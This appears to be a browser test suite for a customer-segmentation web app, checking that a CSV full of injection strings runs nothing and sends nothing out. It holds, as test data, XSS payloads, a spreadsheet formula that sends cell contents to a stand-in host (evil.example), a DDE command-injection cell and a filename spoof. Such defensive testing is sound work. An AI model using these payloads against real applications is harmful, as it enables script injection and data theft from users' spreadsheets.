"""A table whose every name is an attack, through all pages, files and links: nothing runs and nothing leaves.

The fixtures hold that the console stays empty (a blocked script would complain) and that no request goes elsewhere.
"""

import io
import re
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import Server

LONG = "x" * 10_000
COLUMNS = [
    "<script>window.hit=1</script>",
    '<img src=x onerror="window.hit=1">',
    "\"><svg onload=window.hit=1>'",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "{{7*7}}${7*7}<%= 7*7 %>%{x}",
    "\u202egnp.exe\u2066",
]
LEVELS = [
    '<a href="http://evil.example/">prize</a>',
    "+1+cmd|' /C calc'!A0",
    "</script><script>window.hit=1</script>",
    "@SUM(1+1)*cmd|'x'",
    "%{customdata}<b onclick=window.hit=1>bold</b>",
]
FILE_NAME = '<img src=x onerror=window.hit=1>=1+1".csv'
SECRET = "zq4417zq"  # stands in a value: it must not stand in the log


def hostile_table(n: int = 400) -> bytes:
    random = np.random.default_rng(5)
    group = np.arange(n) % 4
    table = pd.DataFrame({"customer": [f"=1+1|{SECRET}-{i}<img src=x onerror=window.hit=1>" for i in range(n)]})
    for place, name in enumerate(COLUMNS):
        table[name] = np.round(10.0 * (group == place % 4) + random.normal(0, 1, n), 2)
    table["<b>kind</b>"] = [LEVELS[each] for each in group]
    table["@note"] = [LEVELS[4] if each == 1 else "none" for each in random.integers(0, 3, n)]
    return table.to_csv(index=False).encode()


def quiet(page: Page) -> None:
    assert page.evaluate("() => window.hit") is None
    assert page.locator("img[src='x'], [onerror], svg[onload], a[href*='evil']").count() == 0


def safe_cells(table: pd.DataFrame) -> None:
    """No cell, and no name of a column, begins as a formula would."""
    texts = [*map(str, table.columns)]
    for name in table.columns:
        texts += [cell for cell in table[name].dropna() if isinstance(cell, str)]
    assert [text for text in texts if re.match(r"\s*[=@+\-\t\r]", text) and not _number(text)] == []


def _number(text: str) -> bool:
    return re.fullmatch(r"[-+]?[\d.,]+(e-?\d+)?", text.strip(), flags=re.IGNORECASE) is not None


@pytest.mark.browser
def test_nothing_runs_and_nothing_leaves(page: Page, browser: Browser, server: Server, tmp_path: Path) -> None:
    page.goto("/")
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Choose a file").click()
    chooser.value.set_files({"name": FILE_NAME, "mimeType": "text/csv", "buffer": hostile_table()})
    page.get_by_text("segments found").first.wait_for(timeout=120_000)
    search = page.url.split("?", 1)[1]
    dataset = re.search(r"dataset=([0-9a-f]+)", search)
    assert dataset is not None
    for summary in page.locator("main details:not(.delete) > summary").all():
        summary.click()
    expect(page.locator("#data-preview table")).to_be_visible()
    quiet(page)

    page.goto(f"/k?{search}")
    expect(page.locator("#k-names")).to_contain_text("customers")
    quiet(page)
    page.goto(f"/map?{search}")
    page.locator("#map-scatter .js-plotly-plot .points path").first.wait_for(state="attached")
    quiet(page)
    page.goto(f"/customer/4?{search}")
    expect(page.locator("#customer-content")).to_contain_text(SECRET)
    quiet(page)
    page.goto(f"/profiles?{search}")
    page.locator("article.profile").first.wait_for()
    page.locator("#profiles-heat .js-plotly-plot svg").first.wait_for()
    rename(page)
    for summary in page.locator("main details > summary").all():
        if summary.is_visible():
            summary.click()
    quiet(page)
    page.goto(f"/score?{search}")
    expect(page.locator("#score-answer")).to_contain_text("Segment", ignore_case=True)
    quiet(page)
    page.goto(f"/library?{search}")
    page.get_by_label("Name").fill("<img src=x onerror=window.hit=1>")
    page.get_by_role("button", name="Keep in the library").click()
    expect(page.locator(".shelf-title")).to_have_text("<img src=x onerror=window.hit=1>")
    quiet(page)

    files(page, dataset[1], search)
    report(page, browser, dataset[1], search, tmp_path)
    shared(page, browser)
    log = (server.data_dir / "server.log").read_text(errors="replace")
    assert SECRET not in log
    assert "window.hit" not in log


def rename(page: Page) -> None:
    page.get_by_text("Rename").first.click()
    box = page.get_by_role("textbox", name="Name of segment 1")
    box.fill("<script>window.hit=1</script>=1+1")
    box.press("Enter")
    expect(page.locator("#segment-1 h3")).to_have_text("<script>window.hit=1</script>=1+1")


def files(page: Page, dataset: str, search: str) -> None:
    """Every table that can be downloaded, read back."""
    for name in ("customers.csv", "steps.csv", "segment.csv?segment=1"):
        joined = "&" if "?" in name else "?"
        answer = page.request.get(f"/download/{dataset}/{name}{joined}{search}")
        assert answer.ok, name
        assert "attachment" in answer.headers["content-disposition"]
        assert re.fullmatch(r'attachment; filename="[\w.-]+"', answer.headers["content-disposition"])
        safe_cells(pd.read_csv(io.BytesIO(answer.body()), dtype=str))
    book = page.request.get(f"/download/{dataset}/customers.xlsx?{search}")
    assert book.ok
    with zipfile.ZipFile(io.BytesIO(book.body())) as parts:
        sheets = [parts.read(each) for each in parts.namelist() if each.startswith("xl/worksheets/")]
    assert sheets
    assert all(b"<f>" not in sheet and b"<hyperlink" not in sheet for sheet in sheets)


def report(page: Page, browser: Browser, dataset: str, search: str, folder: Path) -> None:
    """The report in a browser of its own, as a colleague opens it: it runs and loads nothing of the table's."""
    answer = page.request.get(f"/download/{dataset}/report.html?{search}")
    assert answer.ok
    path = folder / "report.html"
    path.write_bytes(answer.body())
    context = browser.new_context()
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    opened = context.new_page()
    opened.goto(path.as_uri())
    quiet(opened)
    assert [url for url in asked if not url.startswith(("file:", "data:", "blob:"))] == []
    context.close()


def shared(page: Page, browser: Browser) -> None:
    """What a stranger sees of it."""
    page.get_by_role("button", name="Share").click()
    page.get_by_role("checkbox", name="Include customers").check()
    page.get_by_role("button", name="Make a link").click()
    address = page.get_by_role("link", name="See what they see").get_attribute("href")
    quiet(page)
    context = browser.new_context()
    complaints: list[str] = []
    context.on("console", lambda message: complaints.append(message.text))
    other = context.new_page()
    other.goto(str(address))
    expect(other.locator("article.profile h3").first).to_have_text("<script>window.hit=1</script>=1+1")
    quiet(other)
    assert complaints == []
    context.close()


@pytest.mark.browser
@pytest.mark.faults
def test_a_name_of_ten_thousand_characters(page: Page) -> None:
    """It is shortened where it is shown, and the page does not grow sideways."""
    rows = [f"{i},{i * 37 % 901},{i * 7 % 13},{i * 91 % 777}" for i in range(80)]
    page.goto("/")
    page.set_viewport_size({"width": 390, "height": 844})
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Choose a file").click()
    content = "\n".join([f"id,{LONG},visits,income", *rows]).encode()
    chooser.value.set_files({"name": "long.csv", "mimeType": "text/csv", "buffer": content})
    page.get_by_text("No segments").first.wait_for(timeout=120_000)
    search = page.url.split("?", 1)[1] + "&k=3"  # slices are shown where they are asked for
    for path in ("/", "/k", "/map", "/profiles", "/score", "/library"):
        page.goto(f"{path}?{search}")
        page.locator("#shell-dataset strong").wait_for()
        page.wait_for_load_state("networkidle")
        assert page.evaluate("() => document.documentElement.scrollWidth") <= 390, path
